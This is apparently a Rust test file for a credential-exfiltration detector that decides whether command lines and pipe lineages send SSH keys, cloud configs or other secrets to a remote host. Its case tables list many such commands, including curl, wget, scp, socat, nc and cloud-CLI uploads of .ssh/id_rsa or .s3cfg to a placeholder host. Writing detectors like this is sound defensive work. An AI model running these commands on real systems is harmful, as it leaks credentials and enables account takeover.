use super::*;

fn process(executable: &str, argv: &str) -> ProcessFacts {
    ProcessFacts {
        executable: executable.into(),
        argv: argv.split(' ').map(str::to_owned).collect(),
        cwd: "/root".into(),
        ..ProcessFacts::default()
    }
}

#[test]
#[expect(clippy::too_many_lines, reason = "a table of cases")]
fn files_that_are_sent_and_files_to_log_in_with() {
    const KEY: &str = "/root/.ssh/id_rsa";
    for (executable, argv, sent) in [
        ("/usr/bin/curl", "curl -T .ssh/id_rsa http://x/", true),
        (
            "/usr/bin/curl",
            "curl -sT /root/.ssh/id_rsa http://x/",
            true,
        ),
        ("/usr/bin/curl", "curl -s -d @.ssh/id_rsa http://x/", true),
        ("/usr/bin/curl", "curl -sd@.ssh/id_rsa http://x/", true),
        (
            "/usr/bin/curl",
            "curl -F f=@.ssh/id_rsa;type=a/b http://x/",
            true,
        ),
        (
            "/usr/bin/curl",
            "curl --data-binary @.ssh/id_rsa http://x/",
            true,
        ),
        (
            "/usr/bin/curl",
            "curl --upload-file .ssh/id_rsa http://x/",
            true,
        ),
        ("/usr/bin/curl", "curl --key .ssh/id_rsa sftp://x/", false),
        ("/usr/bin/curl", "curl -K .ssh/id_rsa http://x/", false),
        ("/usr/bin/curl", "curl -H @.ssh/id_rsa http://x/", false),
        ("/usr/bin/curl", "curl -d @- http://x/", false),
        // A link, or a name that curl was told in a file.
        ("/usr/bin/curl", "curl -F f=@notes.txt http://x/", true),
        (
            "/usr/bin/curl",
            "curl --key k -F f=@notes.txt http://x/",
            false,
        ),
        (
            "/usr/bin/curl",
            "curl -K c -F f=@notes.txt http://x/",
            false,
        ),
        ("/usr/bin/curl", "curl -d x=y http://x/", false),
        (
            "/usr/bin/wget",
            "wget --post-file=.ssh/id_rsa http://x/",
            true,
        ),
        (
            "/usr/bin/wget",
            "wget --post-file .ssh/id_rsa http://x/",
            true,
        ),
        (
            "/usr/bin/wget",
            "wget --private-key=.ssh/id_rsa https://x/",
            false,
        ),
        ("/usr/bin/scp", "scp .ssh/id_rsa x:", true),
        ("/usr/bin/scp", "scp -r .ssh x:", true),
        ("/usr/bin/scp", "scp -i .ssh/id_rsa a x:", false),
        ("/usr/bin/rsync", "rsync -a /root x:", false),
        ("/usr/bin/nc.openbsd", "nc x 1", true),
        ("/usr/bin/ncat", "ncat --ssl-key .ssh/id_rsa -l 1", false),
        ("/usr/bin/socat", "socat FILE:.ssh/id_rsa TCP:x:1", true),
        (
            "/usr/bin/socat",
            "socat OPENSSL:x:1,key=.ssh/id_rsa -",
            false,
        ),
        ("/usr/bin/ssh", "ssh x cat", false),
        ("/usr/bin/openssl", "openssl s_client -connect x:1", true),
        (
            "/usr/bin/openssl",
            "openssl s_client -connect x:1 -key .ssh/id_rsa",
            false,
        ),
        (
            "/usr/bin/openssl",
            "openssl dgst -sign .ssh/id_rsa f",
            false,
        ),
        ("/usr/bin/gnutls-cli", "gnutls-cli x", true),
        (
            "/usr/bin/gnutls-cli",
            "gnutls-cli --x509keyfile .ssh/id_rsa x",
            false,
        ),
        ("/usr/bin/cat", "cat .ssh/id_rsa", false),
    ] {
        assert_eq!(sends_file(&process(executable, argv), KEY), sent, "{argv}");
    }
}

/// A backup of nothing but keys at somebody's server, and backups as they are made.
#[test]
fn backups_of_keys_alone() {
    const KEY: &str = "/root/.ssh/id_rsa";
    for (argv, sent) in [
        ("restic -r sftp:a@x:/r backup /root/.ssh", true),
        ("restic --repo=rest:https://x/r backup .ssh .aws", true),
        ("restic -r sftp:a@x:/r backup /root", false),
        ("restic -r sftp:a@x:/r backup /root/.ssh /root/notes", false),
        ("restic -r /mnt/r backup /root/.ssh", false),
        ("borg create a@x:/r::1 /root/.ssh", true),
        ("borg create ssh://a@x/r::1 /root/.ssh /etc", false),
        ("borg create /mnt/r::1 /root/.ssh", false),
        ("duplicity /root/.ssh s3://b/r", true),
    ] {
        let program = argv.split(' ').next().unwrap_or_default();
        let process = process(&format!("/usr/bin/{program}"), argv);
        assert_eq!(sends_file(&process, KEY), sent, "{argv}");
    }
}

/// What it is given to log in with, and what to send: the same file.
#[test]
fn options_of_clients() {
    const FILE: &str = "/root/.s3cfg";
    for (argv, sent) in [
        ("s3cmd -c .s3cfg ls", false),
        ("s3cmd --config .s3cfg put x s3://b", false),
        ("s3cmd --config=.s3cfg put x s3://b", false),
        ("s3cmd put .s3cfg s3://b", true),
        // Of one program it is a file to log in with, of another none.
        ("scp -c .s3cfg x:", false),
        ("s5cmd --credentials-file .s3cfg ls", false),
        ("s5cmd cp .s3cfg s3://b", true),
        ("rclone --config .s3cfg ls x:", false),
        (
            "rclone copy --drive-service-account-file .s3cfg a x:",
            false,
        ),
        ("rclone copy .s3cfg x:", true),
        ("rsync -e .s3cfg a x:", false),
        ("rsync --password-file .s3cfg a x::m", false),
        ("rsync --files-from .s3cfg a x:", false),
        ("rsync -a .s3cfg x:", true),
        ("smbclient -A .s3cfg //x/y", false),
        ("smbclient --authentication-file .s3cfg //x/y", false),
        ("sftp -b .s3cfg x", false),
        ("az login --certificate .s3cfg", false),
        ("aws --ca-bundle .s3cfg s3 ls", false),
        ("aws s3 cp .s3cfg s3://b", true),
        ("gcloud auth login --cred-file .s3cfg", false),
        ("gsutil cp .s3cfg gs://b", true),
        ("mc -C .s3cfg ls", false),
        ("mc cp .s3cfg x/b", true),
        ("lftp -f .s3cfg", false),
        ("ncftpput -f .s3cfg x / y", false),
        ("ncftpput x / .s3cfg", true),
        ("ssh -i .s3cfg x", false),
        ("ssh x", true),
        // Clients of databases and clusters send none of their files.
        ("mysql --defaults-file .s3cfg", false),
        ("kubectl --kubeconfig .s3cfg get pods", false),
        ("git -c .s3cfg push", false),
        ("gh gist create .s3cfg", true),
        ("gh release upload v1 /root/.s3cfg", true),
        ("gh auth login --with-token", false),
    ] {
        let program = argv.split(' ').next().unwrap_or_default();
        let process = process(&format!("/usr/bin/{program}"), argv);
        assert_eq!(sends_file(&process, FILE), sent, "{argv}");
    }
}

#[test]
fn a_login_by_netrc_beside_a_file() {
    const FILE: &str = "/root/.netrc";
    for (argv, sent) in [
        ("curl -F f=@notes.txt http://x/", true),
        ("curl -n -F f=@report.pdf http://x/", false),
        ("curl -sn -T report.pdf http://x/", false),
        ("curl --netrc -F f=@report.pdf http://x/", false),
        ("curl --netrc-file /root/.netrc -T x http://x/", false),
    ] {
        assert_eq!(
            sends_file(&process("/usr/bin/curl", argv), FILE),
            sent,
            "{argv}"
        );
    }
}

/// What was copied to a temporary place and then packed, and a key that goes in pieces.
#[test]
#[expect(clippy::too_many_lines, reason = "a table of cases")]
fn copies_and_pieces() {
    let step = |how: &str, name: &str, executable: &str| StepFacts {
        how: how.into(),
        name: name.into(),
        executable: executable.into(),
        ..StepFacts::default()
    };
    for (kind, read, by, argv, how, carried) in [
        (
            "kubeconfig",
            "/dev/shm/x",
            "/usr/bin/gpg",
            "curl -T /root/o http://x/",
            "file",
            true,
        ),
        (
            "kubeconfig",
            "/srv/app/x",
            "/usr/bin/gpg",
            "curl -T /root/o http://x/",
            "file",
            false,
        ),
        (
            "generic-secret",
            "/tmp/x",
            "/usr/bin/gpg",
            "curl -T /root/o http://x/",
            "file",
            false,
        ),
        (
            "ssh-private-key",
            "/root/.ssh/id_rsa",
            "/usr/bin/xxd",
            "curl http://x/1",
            "pipe",
            true,
        ),
        (
            "kubeconfig",
            "/root/.kube/config",
            "/usr/bin/grep",
            "curl http://x/1",
            "pipe",
            false,
        ),
        (
            "ssh-private-key",
            "/root/.ssh/id_rsa",
            "/usr/bin/ssh-keygen",
            "curl http://x/1",
            "pipe",
            false,
        ),
        // A server's own, packed.
        (
            "tls-private-key",
            "/srv/tls/server.key",
            "/usr/bin/gzip",
            "curl -T - http://x/",
            "pipe",
            true,
        ),
        // What openssl makes with it may be a signature.
        (
            "tls-private-key",
            "/srv/tls/server.key",
            "/usr/bin/openssl",
            "curl -d @- http://x/",
            "pipe",
            false,
        ),
    ] {
        let name = if how == "file" { "/root/o" } else { "pipe:[1]" };
        let facts = Facts {
            kind: "credential_sent".into(),
            grade: "lineage".into(),
            credential: Some(crate::facts::CredentialFacts {
                kind: kind.into(),
                ..Default::default()
            }),
            process: Some(process("/usr/bin/curl", argv)),
            steps: vec![step("read", read, by), step(how, name, "/usr/bin/curl")],
            ..Facts::default()
        };
        assert_eq!(is_carried(&facts), carried, "{kind} {read} {argv}");
        // A request to sign a certificate is no more than that.
        let request = Facts {
            bytes: 1_900,
            ..facts.clone()
        };
        assert_eq!(is_carried(&request), carried, "{kind} {read} {argv}");
        let much = Facts {
            bytes: 2_400,
            ..facts
        };
        let encrypted = carried || read == "/srv/tls/server.key";
        assert_eq!(is_carried(&much), encrypted, "{kind} {read} {argv}");
    }
}

#[test]
fn keepers_count_where_it_was_seen() {
    let step = |how: &str, name: &str, executable: &str| StepFacts {
        how: how.into(),
        name: name.into(),
        executable: executable.into(),
        ..StepFacts::default()
    };
    for (grade, carried) in [("observed", true), ("lineage", false)] {
        let facts = Facts {
            kind: "credential_sent".into(),
            grade: grade.into(),
            process: Some(process("/usr/bin/curl", "curl -d @- http://x/")),
            steps: vec![
                step(
                    "read",
                    "/root/.git-credentials",
                    "/usr/lib/git-core/git-credential-store",
                ),
                step("pipe", "pipe:[1]", "/usr/bin/git"),
                step("pipe", "pipe:[2]", "/usr/bin/curl"),
            ],
            ..Facts::default()
        };
        assert_eq!(is_carried(&facts), carried, "{grade}");
    }
}

/// Where everything is one file, what it was called as counts.
#[test]
fn programs_of_a_container() {
    const KEY: &str = "/root/.ssh/id_rsa";
    for (argv, file, input) in [
        ("wget -q --post-file=.ssh/id_rsa http://x/", true, false),
        (
            "busybox wget --post-file .ssh/id_rsa http://x/",
            true,
            false,
        ),
        ("wget -q http://x/", false, false),
        ("nc x 1", true, true),
        ("busybox nc x 1", true, true),
        ("cat .ssh/id_rsa", false, false),
    ] {
        let process = process("/bin/busybox", argv);
        assert_eq!(sends_file(&process, KEY), file, "{argv}");
        assert_eq!(sends_input(&process), input, "{argv}");
    }
    let step = |how: &str, name: &str| StepFacts {
        how: how.into(),
        name: name.into(),
        executable: "/bin/busybox".into(),
        ..StepFacts::default()
    };
    let facts = Facts {
        kind: "credential_sent".into(),
        grade: "lineage".into(),
        process: Some(process("/bin/busybox", "nc x 1")),
        steps: vec![step("read", KEY), step("pipe", "pipe:[1]")],
        ..Facts::default()
    };
    assert!(is_carried(&facts));
}

#[test]
fn what_the_standard_input_is_for() {
    for (executable, argv, sent) in [
        ("/usr/bin/curl", "curl -T - http://x/", true),
        ("/usr/bin/curl", "curl -sT- http://x/", true),
        ("/usr/bin/curl", "curl -d @- http://x/", true),
        ("/usr/bin/curl", "curl --data-binary @- http://x/", true),
        ("/usr/bin/curl", "curl -F f=@- http://x/", true),
        ("/usr/bin/curl", "curl -K - http://x/", false),
        ("/usr/bin/curl", "curl -H @- http://x/", false),
        ("/usr/bin/wget", "wget --post-file=- http://x/", true),
        ("/usr/bin/wget", "wget -i - http://x/", false),
        ("/usr/bin/openssl", "openssl s_client -connect x:1", true),
        ("/usr/bin/openssl", "openssl enc -aes-256-cbc", false),
        ("/usr/bin/nc.openbsd", "nc x 1", true),
        ("/usr/bin/rclone", "rclone rcat x:y", true),
    ] {
        assert_eq!(sends_input(&process(executable, argv)), sent, "{argv}");
    }
}
